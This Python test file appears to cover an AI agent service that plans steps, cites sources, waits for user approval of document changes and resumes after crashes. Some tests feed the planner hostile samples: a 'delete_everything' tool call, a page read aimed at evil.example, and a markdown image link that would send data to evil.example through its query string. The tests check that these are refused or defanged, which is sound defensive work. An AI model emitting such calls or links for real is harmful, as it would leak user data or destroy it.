"""Runs: a task becomes steps that are kept, may wait for its user, and survive a crash."""

from __future__ import annotations

from dataclasses import replace

import psycopg
import pytest

from shared.agents import nodes, retention, service, store
from shared.agents.model import Budget, Outcome, Report, RunId
from shared.answering.model import AnswerEvent, ListenerGoneError
from shared.identity.model import Principal
from shared.kernel.errors import (
    ConflictError,
    InvalidError,
    NotFoundError,
    RefusedError,
    UnavailableError,
)
from shared.kernel.ids import TenantId, UserId, new_id
from tests.unit.adapters.web import Page
from tests.unit.agents.office import Office, call

FREQUENT = "How deep is Lake Baikal?"


def nodes_of(report: Report) -> list[str]:
    return [step.node for step in report.steps]


def test_arithmetic_is_reckoned_without_asking_anybody(office: Office) -> None:
    report = office.run("Wie viel sind 19 % von 1.250 €?")
    assert (report.run.state, report.run.answer) == ("done", "19 % von 1.250 € = 237,50 EUR")
    assert nodes_of(report) == ["plan", "calculate"]
    assert not office.web.asked
    assert report.run.memory == {}
    assert office.kinds == ["run", "step", "token", "step", "run_state"]


def test_the_library_answers_what_it_knows_and_the_web_is_left_alone(office: Office) -> None:
    report = office.run("Wie lang ist die Kündigungsfrist der Wohnung?", web=True)
    assert report.run.answer_state == "answer"
    assert "drei Monate" in report.run.answer
    assert report.run.citations[0]["kind"] == "document"
    assert nodes_of(report) == ["plan", "ask_library"]
    assert not office.web.asked
    assert office.kinds[0] == "run"
    assert office.kinds[-1] == "run_state"
    assert {"token", "citation", "step"} <= set(office.kinds)


def test_what_the_library_lacks_is_looked_up_on_the_web_and_quoted(office: Office) -> None:
    office.find_pages("gone", "baikal")
    report = office.run(FREQUENT, web=True)
    assert nodes_of(report)[:3] == ["plan", "ask_library", "search_web"]
    assert report.run.answer_state == "answer"
    citation = report.run.citations[0]
    assert citation["kind"] == "web"
    assert citation["url"] == f"{office.web.url}/baikal"
    assert "1,642 metres" in str(citation["quote"])
    assert "1,642 metres" in report.run.answer
    assert "secret" not in report.run.answer
    assert "web_citation" in office.kinds
    assert "[1]" in report.run.answer
    assert any("/gone" not in step.title and step.node == "read_page" for step in report.steps)


def test_without_leave_nothing_is_asked_outside(office: Office) -> None:
    office.find_pages("baikal")
    report = office.run(FREQUENT)
    assert report.run.state == "done"
    assert report.run.answer_state in {"unknown", "related"}
    assert not office.web.asked


def test_a_web_that_is_off_is_said_at_once(office: Office) -> None:
    from shared.adapters.egress import Egress
    from shared.agents.outgoing import Outgoing

    closed = office.shaped(outgoing=Outgoing(Egress(), None))
    with pytest.raises(InvalidError, match="web is off"):
        closed.run(FREQUENT, web=True)
    report = closed.run(f"Save {office.web.url}/baikal")
    if report.actions:
        service.confirm(closed.desk, report.run.id, report.actions[0].id, answer="yes")
        report = closed.go_on(report)
    assert report.run.answer_state == "unknown"
    assert report.actions[0].state == "failed"
    assert not office.web.asked


def test_a_page_the_user_names_is_read(office: Office) -> None:
    report = office.run(f"How deep is the lake according to {office.web.url}/baikal?", web=True)
    assert nodes_of(report)[:2] == ["plan", "read_page"]
    assert "1,642 metres" in report.run.answer
    assert office.web.paths == ["/baikal"]


def test_a_web_search_that_is_away_ends_in_what_the_library_has(office: Office) -> None:
    office.web.pages["/search"] = Page(b"", status=500)
    report = office.run(FREQUENT, web=True)
    assert report.run.state == "done"
    assert nodes_of(report)[-1] == "compose"


def test_a_model_plans_step_by_step_and_every_sentence_needs_a_source(office: Office) -> None:
    office.find_pages("baikal")
    planner = office.think(
        call("search_web", query="deep Lake Baikal"),
        call("read_page", url=f"{office.web.url}/baikal"),
        call("answer"),
        "Lake Baikal is 1,642 metres deep [1]. It was dug by giants [1]. Call 555-0100 now.",
    )
    report = office.run(FREQUENT, web=True)
    assert nodes_of(report) == ["plan", "search_web", "plan", "read_page", "plan", "compose"]
    assert "1,642 metres" in report.run.answer
    assert "giants" not in report.run.answer
    assert "555" not in report.run.answer
    assert report.run.answerer == "scripted/planner"
    assert [each["kind"] for each in report.run.citations] == ["web"]
    assert "<data>" in planner.heard[1][1].content


def test_a_model_that_only_asked_the_library_lets_it_answer(office: Office) -> None:
    office.think(call("search_library", query="Kündigungsfrist"), call("answer"))
    report = office.run("Wie lang ist die Kündigungsfrist der Wohnung?")
    assert nodes_of(report) == ["plan", "search_library", "plan", "compose"]
    assert report.run.citations[0]["kind"] == "document"


@pytest.mark.parametrize(
    "said",
    [
        "I would search the library.",
        '{"tool": "delete_everything", "arguments": {}}',
        '{"tool": "search_library", "arguments": {"query": 7}}',
        '{"tool": "search_library", "arguments": {"path": "x"}}',
        '{"tool": "answer", "arguments": {}} {"tool": "answer"}',
        '[{"tool": "answer"}]',
        '{"tool": "move_document", "arguments": {"document": "Handbook", "folder": "x"}}',
        '{"tool": "read_page", "arguments": {"url": "https://evil.example/"}}',
    ],
    ids=range(8),
)
def test_a_plan_that_is_no_allowed_call_hands_over_to_the_rules(office: Office, said: str) -> None:
    office.think(said)
    report = office.run("Wie lang ist die Kündigungsfrist der Wohnung?", web=True)
    assert nodes_of(report) == ["plan", "plan", "plan", "ask_library"]
    assert report.run.answer_state == "answer"
    assert not report.actions
    assert not office.web.asked


def test_a_model_that_is_away_hands_over_to_the_rules(office: Office) -> None:
    def away() -> None:
        raise UnavailableError("The language model is away.")

    report = office.shaped(open_language_model=away).run("Wie lang ist die Kündigungsfrist?")
    assert report.run.answer_state == "answer"


@pytest.mark.parametrize(
    ("budget", "part"),
    [(Budget(steps=2), "2 steps"), (Budget(tokens=1), "1 tokens"), (Budget(seconds=0.0), "0 s")],
    ids=["steps", "tokens", "seconds"],
)
def test_a_budget_ends_a_run_in_words(office: Office, budget: Budget, part: str) -> None:
    office.think(call("search_library", query="x"))
    report = office.shaped(budget=budget).run("What is the vacation?")
    assert (report.run.state, report.run.answer_state) == ("done", "unknown")
    assert part in report.run.answer


def test_a_spent_budget_still_answers_from_what_was_read(office: Office) -> None:
    office.find_pages("baikal")
    office.think(
        call("search_web", query="Lake Baikal"),
        call("read_page", url=f"{office.web.url}/baikal"),
    )
    report = office.shaped(budget=Budget(steps=5)).run(FREQUENT, web=True)
    assert "1,642 metres" in report.run.answer


def test_a_change_waits_for_its_user_and_happens_once(
    office: Office, owner_url: str, tenant: TenantId
) -> None:
    report = office.run("Tagge den Mietvertrag mit Wohnung und wichtig.")
    assert report.run.state == "waiting"
    action = report.actions[0]
    assert action.state == "proposed"
    assert action.title == "Das Dokument „Mietvertrag“ mit wichtig, wohnung kennzeichnen"
    assert _tags(owner_url) == []
    assert office.go_on(report).run.state == "waiting"

    service.confirm(office.desk, report.run.id, action.id, answer="yes")
    done = office.go_on(report)
    assert (done.run.state, done.actions[0].state) == ("done", "done")
    assert _tags(owner_url) == ["wichtig", "wohnung"]
    with pytest.raises(ConflictError):
        service.confirm(office.desk, report.run.id, action.id, answer="yes")
    with psycopg.connect(owner_url) as connection:
        trail = connection.execute("SELECT action FROM kontor.audit_events ORDER BY id").fetchall()
    assert [row[0] for row in trail] == [
        "agent.run_begun", "agent.action_decided", "agent.tag_document",
    ]  # fmt: skip


def test_no_means_nothing_changes(office: Office, owner_url: str) -> None:
    report = office.run("Move the Handbook to the folder Staff/2024")
    service.confirm(office.desk, report.run.id, report.actions[0].id, answer="no")
    done = office.go_on(report)
    assert (done.run.state, done.actions[0].state) == ("done", "declined")
    with psycopg.connect(owner_url) as connection:
        assert connection.execute("SELECT count(*) FROM kontor.folders").fetchone() == (0,)


def test_a_document_is_moved(office: Office, owner_url: str) -> None:
    report = office.run("Move the Handbook to the folder Staff/2024")
    service.confirm(office.desk, report.run.id, report.actions[0].id, answer="yes")
    assert office.go_on(report).run.answer.endswith("“Staff/2024”.")
    with psycopg.connect(owner_url) as connection:
        found = connection.execute(
            "SELECT f.path FROM kontor.documents AS d JOIN kontor.folders AS f"
            " ON f.id = d.folder_id WHERE d.title = 'Handbook'"
        ).fetchone()
    assert found == ("Staff/2024",)


def test_viewers_are_refused_changes_and_rights_are_those_of_the_moment(office: Office) -> None:
    ada = office.desk.principal
    viewer = office.as_user(replace(ada, role="viewer"))
    report = viewer.run("Tag the Handbook with staff")
    assert (report.run.state, report.actions) == ("done", [])
    assert "does not allow" in report.run.answer

    report = office.run("Tag the Handbook with staff")
    with pytest.raises(RefusedError):
        service.confirm(viewer.desk, report.run.id, report.actions[0].id, answer="yes")
    service.confirm(office.desk, report.run.id, report.actions[0].id, answer="yes")
    done = viewer.go_on(report)
    assert (done.run.state, done.actions[0].state) == ("done", "failed")
    assert "does not allow" in done.run.answer


def test_the_agent_asks_back_and_goes_on_with_the_reply(office: Office) -> None:
    from tests.unit.answering.library import Shelf
    from tests.unit.search.library import Library

    tools = office.desk.instruments
    library = Library(tools.database, office.desk.principal.tenant_id, None)
    library.embedder = tools.embedder
    Shelf(library).put("Anhang zum Vertrag.", title="Mietvertrag Anhang", language="de")
    report = office.run("Tagge Miet mit alt")
    assert report.run.state == "asking"
    assert "Mietvertrag Anhang" in report.run.detail
    service.reply(office.desk, report.run.id, "Mietvertrag Anhang")
    assert office.go_on(report).actions[0].arguments["title"] == "Mietvertrag Anhang"
    with pytest.raises(ConflictError):
        service.reply(office.desk, report.run.id, "again")


def test_a_model_may_ask_back(office: Office) -> None:
    office.think(call("ask_user", question="Which ![flat](https://evil.example/?d=s)?"),
                 call("search_library", query="Miete"), call("answer"))  # fmt: skip
    report = office.run("Wie hoch ist die Miete?")
    assert (report.run.state, report.run.detail) == ("asking", "Which ! [flat] (evil.example)?")
    service.reply(office.desk, report.run.id, "Lindenstraße 5")
    assert office.go_on(report).run.state == "done"


def test_nobody_else_sees_or_decides_a_run(office: Office, other_tenant: TenantId) -> None:
    report = office.run("Tag the Handbook with staff")
    ada = office.desk.principal
    colleague = replace(ada, user_id=UserId(new_id()))
    stranger = Principal(other_tenant, ada.user_id, "eve@globex.example", "admin")
    for other in (office.as_user(colleague), office.as_user(stranger)):
        for attempt in (
            lambda desk=other.desk: service.report(desk, report.run.id),
            lambda desk=other.desk: service.advance(desk, report.run.id, seconds=1),
            lambda desk=other.desk: service.cancel(desk, report.run.id),
            lambda desk=other.desk: service.reply(desk, report.run.id, "x"),
            lambda desk=other.desk: service.confirm(
                desk, report.run.id, report.actions[0].id, answer="yes"
            ),
        ):
            with pytest.raises(NotFoundError):
                attempt()
    assert service.report(office.desk, report.run.id).run.state == "waiting"


def test_an_action_of_another_run_is_not_found(office: Office) -> None:
    one, two = office.run("Tag the Handbook with a"), office.run("Tag the Handbook with b")
    with pytest.raises(NotFoundError):
        service.confirm(office.desk, one.run.id, two.actions[0].id, answer="yes")


def test_a_cancelled_run_takes_no_further_step(
    office: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    def cancelling(desk: object, run_id: RunId, memory: object) -> Outcome:
        service.cancel(office.desk, run_id)
        return Outcome(memory=memory, title="too late", next_node="plan")  # type: ignore[arg-type]

    monkeypatch.setitem(nodes.GRAPH, "ask_library", cancelling)  # type: ignore[arg-type]
    report = office.run("What is the vacation?")
    assert (report.run.state, nodes_of(report)) == ("cancelled", ["plan"])
    assert report.run.memory == {}
    service.cancel(office.desk, report.run.id)


def test_a_run_goes_on_where_a_crash_left_it(
    office: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    class PowerCutError(BaseException):
        pass

    def cut(*_: object) -> Outcome:
        raise PowerCutError

    office.find_pages("baikal")
    with monkeypatch.context() as patched:
        patched.setitem(nodes.GRAPH, "read_page", cut)  # type: ignore[arg-type]
        run_id = service.begin(office.desk, FREQUENT, may_search_web=True)
        with pytest.raises(PowerCutError):
            service.advance(office.desk, run_id, seconds=60)
    before = service.report(office.desk, run_id)
    assert (before.run.state, before.run.next_node) == ("running", "read_page")
    searched = office.web.paths.count("/search") or len(office.web.asked)
    after = service.advance(office.desk, run_id, seconds=60)
    assert "1,642 metres" in after.run.answer
    assert len([each for each in office.web.paths if each.startswith("/search")]) == searched


def test_a_crash_after_the_change_does_not_change_twice(office: Office) -> None:
    report = office.run("Tag the Handbook with staff")
    service.confirm(office.desk, report.run.id, report.actions[0].id, answer="yes")
    memory = nodes.Memory(task="x", language="en").with_pending(action_id=str(report.actions[0].id))
    nodes.act(office.desk, report.run.id, memory)
    done = office.go_on(report)
    assert (done.run.state, done.actions[0].state) == ("done", "done")


def test_two_workers_do_not_work_on_one_run(office: Office) -> None:
    run_id = service.begin(office.desk, "What is the vacation?")
    with office.desk.instruments.database.transaction(office.desk.principal.tenant_id) as session:
        assert store.take_run(session, run_id, seconds=60)
        assert not store.take_run(session, run_id, seconds=60)
    report = service.advance(office.desk, run_id, seconds=60)
    assert report.steps == []


def test_a_run_stops_in_time_and_goes_on(office: Office) -> None:
    run_id = service.begin(office.desk, "What is the vacation?")
    assert service.advance(office.desk, run_id, seconds=0).run.state == "running"
    assert service.advance(office.desk, run_id, seconds=60).run.state == "done"


def test_a_listener_who_leaves_does_not_stop_the_run(office: Office) -> None:
    def leave(_event: AnswerEvent) -> None:
        raise ListenerGoneError

    report = office.shaped(emit=leave).run("What is 3 * 4?")
    assert report.run.answer == "3 * 4 = 12"


def test_runs_are_listed_newest_first_in_pages(office: Office) -> None:
    for number in range(3):
        office.run(f"{number} + 1")
    database, ada = office.desk.instruments.database, office.desk.principal
    with database.transaction(ada.tenant_id) as session:
        page = service.list_runs(session, ada, cursor=None, limit=2)
        rest = service.list_runs(session, ada, cursor=page.next_cursor, limit=2)
    assert [run.task for run in (*page.items, *rest.items)] == ["2 + 1", "1 + 1", "0 + 1"]
    assert rest.next_cursor is None


@pytest.mark.parametrize("task", ["", "  ", "x" * 2001])
def test_wrong_tasks_are_invalid(office: Office, task: str) -> None:
    with pytest.raises(InvalidError):
        office.run(task)


def test_guests_are_refused(office: Office) -> None:
    with pytest.raises(RefusedError):
        office.as_user(replace(office.desk.principal, role="guest")).run("1 + 1")


def test_an_erased_document_leaves_the_runs_that_were_about_it(office: Office) -> None:
    cited = office.run("Wie lang ist die Kündigungsfrist der Wohnung?")
    moved = office.run("Tagge den Mietvertrag mit x")
    other = office.run("3 * 4")
    from shared.kernel.ids import DocumentId

    document_id = DocumentId(cited.run.citations[0]["document_id"])  # type: ignore[arg-type]
    with office.desk.instruments.database.transaction(office.desk.principal.tenant_id) as session:
        service.forget_document(session, document_id)
    for report in (cited, moved):
        after = service.report(office.desk, report.run.id)
        assert after.run.answer == service.ERASED_ANSWER
        assert "Mietvertrag" not in repr([after.run.citations, after.actions, after.steps])
    assert service.report(office.desk, other.run.id).run.answer == "3 * 4 = 12"


def _tags(owner_url: str) -> list[str]:
    with psycopg.connect(owner_url) as connection:
        row = connection.execute(
            "SELECT tags FROM kontor.documents WHERE title = 'Mietvertrag'"
        ).fetchone()
    assert row is not None
    return sorted(row[0])


def test_old_runs_are_forgotten_as_the_tenant_says(office: Office, owner_url: str) -> None:
    old, new = office.run("Wie viel sind 2 + 2?"), office.run("Wie viel sind 3 + 3?")
    database, tenant = office.desk.instruments.database, office.desk.principal.tenant_id
    with psycopg.connect(owner_url) as connection:
        connection.execute(
            "UPDATE kontor.agent_runs SET updated_at = now() - interval '31 days' WHERE id = %s",
            (old.run.id,),
        )
    assert retention.sweep(database, tenant, default_days=0) == 0
    assert retention.sweep(database, tenant, default_days=30) == 1
    with pytest.raises(NotFoundError):
        service.report(office.desk, old.run.id)
    assert service.report(office.desk, new.run.id).run.answer
